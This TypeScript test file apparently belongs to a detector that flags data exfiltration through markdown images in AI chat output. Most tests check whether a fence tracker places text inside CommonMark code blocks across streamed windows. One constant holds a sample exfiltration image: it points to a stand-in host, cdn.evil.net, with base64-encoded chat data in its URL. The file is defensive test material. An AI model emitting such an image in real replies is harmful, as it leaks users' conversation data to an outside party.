import assert from 'node:assert/strict';
import { test } from 'node:test';
import { FenceTracker } from './code-spans.js';
import { detectExfiltration } from './index.js';

// Data in the URL, so the image is flagged wherever it is not code.
const IMG = '![x](https://cdn.evil.net/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)';

test('links and images inside fenced or inline code are shown as text, not flagged', () => {
  assert.deepEqual(detectExfiltration(`Example:\n\`\`\`md\n${IMG}\n\`\`\`\n`), []);
  assert.deepEqual(detectExfiltration(`Write \`${IMG}\` to embed it.`), []);
  assert.equal(detectExfiltration(`\`\`\`md\n${IMG}\n\`\`\`\nthen ${IMG}`).length, 1);
  assert.equal(
    detectExfiltration(`\`\`\`\n\`\`\`js\n\`\`\`\n${IMG}`).length,
    1,
    'a fence with an info string does not close',
  );
});

test('the fence tracker follows fences across windows of a stream', () => {
  const whole = `intro\n\`\`\`\n${'code line\n'.repeat(30)}\`\`\`\nafter ${IMG}\n`;
  const f = new FenceTracker();
  // Windows overlap and arrive in order, as the output window shows them.
  for (let end = 10; end <= whole.length; end += 7) {
    const start = Math.max(0, end - 40);
    f.update(whole.slice(start, end), start);
  }
  f.update(whole.slice(whole.length - 40), whole.length - 40);
  const inside = whole.indexOf('code line');
  const after = whole.indexOf(IMG);
  assert.equal(f.inFence(inside, inside + 4), true);
  assert.equal(f.inFence(after, after + 4), false);
});

test('a tracker that missed part of the output treats nothing as code', () => {
  const f = new FenceTracker();
  f.update('```\nabc', 0);
  f.update('later text', 500);
  assert.equal(f.inFence(505, 506), false);
});

/** A tracker fed the whole text in one piece; `code(i)` is whether the character at i is inside a fence. */
function tracked(text: string) {
  const f = new FenceTracker();
  f.update(text, 0);
  return (needle: string) => {
    const at = text.indexOf(needle);
    assert.ok(at >= 0, needle);
    return f.inFence(at, at + needle.length);
  };
}

test('fence lines as CommonMark reads them: marker, length, indentation, info string', () => {
  let code = tracked('~~~\nA\n~~~\nB\n');
  assert.equal(code('A'), true, 'a tilde fence');
  assert.equal(code('B'), false);
  code = tracked('````\nA\n```\nB\n````\nC\n');
  assert.equal(code('B'), true, 'a shorter fence does not close');
  assert.equal(code('C'), false);
  code = tracked('```\nA\n~~~\nB\n```\nC\n');
  assert.equal(code('B'), true, 'another marker does not close');
  assert.equal(code('C'), false);
  code = tracked('   ```\n   A\n   ```\nB\n');
  assert.equal(code('A'), true, 'three spaces of indentation');
  assert.equal(code('B'), false, 'closed by a fence indented as much');
  code = tracked('  ```\n  A\n      ```\n  B\n  ```\nC\n');
  assert.equal(code('B'), true, 'a fence indented more than three columns is text, not a closing fence');
  assert.equal(code('C'), false, 'closed by one indented at most three');
  code = tracked('  ```\n  A\n    ```\nB\n');
  assert.equal(code('A'), false, 'four columns may close it (in a list item) or not (top level): not code');
  assert.equal(code('B'), false, '... nor anything after');
  code = tracked('- ```\n  A\n     ```\nB\n');
  assert.equal(code('A'), true, 'after a list marker');
  assert.equal(code('B'), false, "closed by a fence up to three columns past the item's content");
  code = tracked('- ```\n  A\n      ```\n  B\n');
  assert.equal(code('B'), true, "a fence four columns past the item's content is text");
  code = tracked('   ```\nA\n   ```\nB\n');
  assert.equal(code('A'), false, 'a less indented line may have ended a list item and its fence: not code');
  assert.equal(code('B'), false, '... nor anything after (the tracker cannot tell which fence line opens)');
  code = tracked('    ```\nA\n');
  assert.equal(code('A'), false, 'four spaces is an indented line, not a fence');
  code = tracked('``` a`b\nA\n');
  assert.equal(code('A'), false, 'a backtick in a backtick info string: an inline span');
  code = tracked('~~~ a`b\nA\n~~~  \nB\n');
  assert.equal(code('A'), true, 'a tilde fence may have one');
  assert.equal(code('B'), false, 'a closing fence may end in spaces');
  code = tracked('x ```\nA\n');
  assert.equal(code('A'), false, 'a fence starts a line');
});

test('a span is in a fence only when it lies wholly inside one block', () => {
  const text = 'a\n```\nA\n```\nB';
  const f = new FenceTracker();
  f.update(text, 0);
  const open = text.indexOf('```');
  const close = text.lastIndexOf('```');
  assert.equal(f.inFence(text.indexOf('A'), text.indexOf('A') + 1), true);
  assert.equal(f.inFence(0, 1), false, 'before the fence');
  assert.equal(f.inFence(text.indexOf('A'), text.indexOf('B') + 1), false, 'across the closing fence');
  assert.equal(f.inFence(open, open + 1), false, 'the opening fence line begins the block');
  assert.equal(f.inFence(open + 1, close), true);
});

test('an unfinished line that may be a fence waits for its end; others are read at once', () => {
  const f = new FenceTracker();
  f.update('```', 0);
  f.update('```js\nA\n', 0);
  assert.equal(f.inFence(6, 7), true, 'the fence line was judged once complete');
  const g = new FenceTracker();
  g.update('text ```', 0);
  g.update('text ```\nA\n', 0);
  assert.equal(g.inFence(9, 10), false);
  const h = new FenceTracker();
  h.update('ab', 0);
  h.update('ab\n```\nA\n', 0);
  assert.equal(h.inFence(7, 8), true, 'a later window continues where the last one stopped');
});

test('fence lines inside HTML blocks are HTML; list items may hold fences; unsure readings stop the tracker', () => {
  let code = tracked('<div>\n```\nA\n\nB\n');
  assert.equal(code('A'), false, 'a fence line in an HTML block is HTML');
  assert.equal(code('B'), false, 'and the block ends at a blank line');
  code = tracked('<!-- a\n\n```\n-->\nA\n');
  assert.equal(code('A'), false, 'a comment runs over blank lines');
  code = tracked('<!-- one line -->\n```\nA\n```\nB\n');
  assert.equal(code('A'), true, 'a comment that ends on its line');
  assert.equal(code('B'), false);
  code = tracked('- ```\n  A\n  ```\n  B\n');
  assert.equal(code('A'), true, 'a fence after a list marker');
  assert.equal(code('B'), false, 'closed inside the item');
  code = tracked('para\n2. ```\n   A\n');
  assert.equal(
    code('A'),
    false,
    'an ordered item other than 1 after a paragraph line may be text: not followed',
  );
  code = tracked('para\n<x-y>\n```\nA\n');
  assert.equal(
    code('A'),
    false,
    'a fence line in what may be a kind-7 HTML block or a paragraph: not followed',
  );
  code = tracked('\n<x-y>\n```\nA\n\n```\nB\n```\nC\n');
  assert.equal(code('A'), false, 'a kind-7 block after a blank line holds the fence line');
  assert.equal(code('B'), true, 'the fence after the block opens');
  assert.equal(code('C'), false);
});

test('the tracker keeps a fence or HTML line across windows shorter than the line', () => {
  const text = `<div ${'a'.repeat(200)}>\n\`\`\`\nA\n\nB\n\`\`\`\nC\n`;
  const f = new FenceTracker();
  for (let i = 0; i < text.length; i += 10) f.update(text.slice(i, i + 10), i);
  const at = (n: string) => text.indexOf(n);
  assert.equal(f.inFence(at('A'), at('A') + 1), false, 'the fence line is inside the HTML block');
  assert.equal(f.inFence(at('B'), at('B') + 1), false);
  assert.equal(f.inFence(at('C'), at('C') + 1), true, 'the fence after the blank line opens');
});
